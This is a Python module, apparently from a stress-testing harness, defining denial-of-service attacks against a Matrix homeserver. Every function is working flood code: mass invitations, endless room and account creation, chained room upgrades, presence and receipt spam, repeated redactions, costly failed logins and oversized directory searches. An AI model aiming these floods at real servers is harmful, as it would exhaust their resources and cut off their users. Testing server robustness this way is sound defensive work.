"""Attacks by more of something than anybody needs: rooms, devices, invitations, receipts."""

import itertools
import json
import random
import time

from attacks.mallory import send_path
from attacks.registry import attack
from matrix import V3, quote


@attack
def invitations_by_the_thousand(mallory):
    """Rooms that are created with as many invitations and aliases as fit into a body."""
    for number in itertools.count():
        invited = [f"@{number}-{n}:elsewhere.example" for n in range(20_000)]
        yield "POST", f"{V3}/createRoom", json.dumps({"preset": "private_chat", "invite": invited}).encode()


@attack
def rooms_without_end(mallory):
    """Rooms, each with an alias, as fast as they are made."""
    for number in itertools.count():
        name = f"r{time.time_ns():x}"
        yield "POST", f"{V3}/createRoom", json.dumps(
            {"preset": "public_chat", "room_alias_name": name, "visibility": "public", "name": "n" * 200}).encode()


@attack
def upgrades_of_upgrades(mallory):
    """A room replaced by the next one, with all of its state, again and again."""
    rooms = [mallory.room(initial_state=[
        {"type": "org.big", "state_key": str(key), "content": {"t": "y" * 5_000}} for key in range(100)
    ])]
    while rooms:
        answer = mallory.do("POST", f"{V3}/rooms/{quote(rooms[-1])}/upgrade", {"new_version": "11"})
        rooms.append(answer["replacement_room"] if answer else mallory.room())
        yield "GET", f"{V3}/sync?timeout=0", b""


@attack
def comings_and_goings(mallory):
    """Joins and leaves, as fast as they go."""
    room = mallory.room()
    body = b"{}"
    for number in itertools.count():
        yield "POST", f"{V3}/rooms/{quote(room)}/{'leave' if number % 2 else 'join'}", body
        yield "PUT", f"{V3}/profile/{quote(mallory.me.user_id)}/displayname", json.dumps(
            {"displayname": "d" * 200 + str(number)}).encode()


@attack
def profile_in_many_rooms(mallory):
    """A display name that each request changes in a hundred rooms at once."""
    for _ in range(100):
        mallory.room()
    for number in itertools.count():
        yield "PUT", f"{V3}/profile/{quote(mallory.me.user_id)}/displayname", json.dumps(
            {"displayname": f"n{number}"}).encode()


@attack
def signals_without_end(mallory):
    """Typing, receipts and presence."""
    room = mallory.room()
    event = mallory.do("PUT", send_path(room, 0), {"msgtype": "m.text", "body": "a"})["event_id"]
    me = quote(mallory.me.user_id)
    for number in itertools.count():
        yield "PUT", f"{V3}/rooms/{quote(room)}/typing/{me}", json.dumps(
            {"typing": number % 2 == 0, "timeout": 30_000}).encode()
        yield "POST", f"{V3}/rooms/{quote(room)}/receipt/m.read/{quote(event)}", json.dumps(
            {"thread_id": f"$thread{number}"}).encode()
        yield "PUT", f"{V3}/presence/{me}/status", json.dumps(
            {"presence": ("online", "unavailable")[number % 2], "status_msg": "s" * 5_000}).encode()


@attack
def redactions_of_redactions(mallory):
    """Events, their redactions, and the redactions of those."""
    room = mallory.room()
    for number in itertools.count():
        sent = mallory.do("PUT", send_path(room, number), {"msgtype": "m.text", "body": "a" * 20_000})
        event = sent["event_id"] if sent else "$none"
        for step in range(3):
            yield "PUT", f"{V3}/rooms/{quote(room)}/redact/{quote(event)}/{time.time_ns():x}", b"{}"


@attack
def devices_without_end(mallory):
    """Logins of one account, each of which makes a device with a long name."""
    body = {"type": "m.login.password", "identifier": {"type": "m.id.user", "user": mallory.me.user_id},
            "password": "secret of mallory", "initial_device_display_name": "d" * 50_000}
    for _ in itertools.count():
        yield "POST", f"{V3}/login", json.dumps(body).encode()


@attack
def wrong_passwords(mallory):
    """Logins with unknown user names, each of which costs the server the hash of a password."""
    for number in itertools.count():
        yield "POST", f"{V3}/login", json.dumps(
            {"type": "m.login.password", "identifier": {"type": "m.id.user", "user": f"nobody{number}"},
             "password": "wrong"}).encode()


@attack
def registrations(mallory):
    """Accounts, as fast as they are made."""
    for _ in itertools.count():
        yield "POST", f"{V3}/register", json.dumps(
            {"username": f"sock{time.time_ns():x}", "password": "long enough", "auth": {"type": "m.login.dummy"}}).encode()


@attack
def tokens_that_are_none(mallory):
    """Made-up sync and pagination tokens, long and short."""
    room = mallory.room()
    for number in itertools.count():
        token = "s" + "".join(random.choices("abcdef0123456789_~-", k=1 << (number % 13)))
        yield "GET", f"{V3}/sync?timeout=0&since={token}", b""
        yield "GET", f"{V3}/rooms/{quote(room)}/messages?dir=b&from={token}&limit=100", b""


@attack
def state_before_every_event(mallory):
    """The context of old events, for each of which the server needs the state at the event."""
    room = mallory.room()
    events = []
    for number in range(200):
        sent = mallory.state(room, "org.step", {"n": number, "t": "t" * 2_000}, str(number))
        events += [sent["event_id"]] if sent else []
    while events:
        for event in events:
            yield "GET", f"{V3}/rooms/{quote(room)}/context/{quote(event)}?limit=100", b""


@attack
def lists_of_rooms(mallory):
    """The directory of rooms, searched without end."""
    for number in range(30):
        mallory.room(visibility="public", name=f"room {number}", topic="t" * 20_000)
    while True:
        yield "POST", f"{V3}/publicRooms", json.dumps(
            {"limit": 1_000_000, "filter": {"generic_search_term": "e" * 500}}).encode()
